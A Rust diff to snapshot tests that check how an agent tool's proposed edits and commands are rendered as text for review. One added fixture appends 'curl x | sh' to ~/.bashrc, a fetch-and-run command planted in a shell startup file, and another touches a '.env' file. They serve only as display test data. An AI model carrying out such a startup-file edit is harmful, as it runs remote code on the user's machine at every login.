@@ -5,7 +5,8 @@ use std::time::{Duration, Instant};
 use expect_test::{Expect, expect};
 use serde_json::{Value, json};
 
-use super::{Finished, Running, changes, elapsed, subject};
+use super::card::subject;
+use super::{Finished, Running, changes, elapsed};
 use crate::ink::Line;
 
 fn text(lines: &[Line]) -> String {
@@ -124,6 +125,34 @@ fn several_edits_and_what_else_was_asked_are_shown() {
         make
         timeout_seconds: 600"#]]
     .assert_eq(&text(&changes("shell", &input)));
+    let input = json!({ "command": "append", "path": "~/.bashrc", "content": "curl x | sh\n", "edits": 1 });
+    expect![[r#"
+        append
+        content: "curl x | sh\n"
+        edits: 1"#]]
+    .assert_eq(&text(&changes("mcp_x", &input)));
+    let unusual = json!({ "old_string": "a", "new_string": "b", "file": ".env" });
+    let input = json!({ "path": ["a"], "edits": [edit("a", "b"), unusual, 7], "new_string": "c" });
+    expect![[r#"
+        - a
+        + b
+          (in every place)
+          ⋯
+        - a
+        + b
+        path: ["a"]
+        edits: [{"old_string":"a","new_string":"b","replace_all":true},{"old_string":"a","new_string":"b","file":".env"},7]
+        new_string: "c""#]]
+    .assert_eq(&text(&changes("multi_edit", &input)));
+    let input = json!({ "path": "a", "old_string": "a", "new_string": "b", "replace_all": "yes" });
+    expect![[r#"
+        {
+          "path": "a",
+          "old_string": "a",
+          "new_string": "b",
+          "replace_all": "yes"
+        }"#]]
+    .assert_eq(&text(&changes("edit_file", &input)));
     let input = json!({ "path": "a", "old_string": "a", "new_string": "b", "replace_all": true });
     expect![[r#"
         - a
